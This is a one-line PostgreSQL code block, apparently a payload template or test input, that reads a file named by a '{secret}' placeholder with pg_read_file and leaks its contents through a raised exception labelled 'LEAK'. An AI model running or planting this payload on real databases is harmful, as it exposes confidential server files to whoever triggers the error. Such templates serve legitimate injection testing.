DO $$ BEGIN RAISE EXCEPTION 'LEAK %', pg_read_file('{secret}'); END $$;
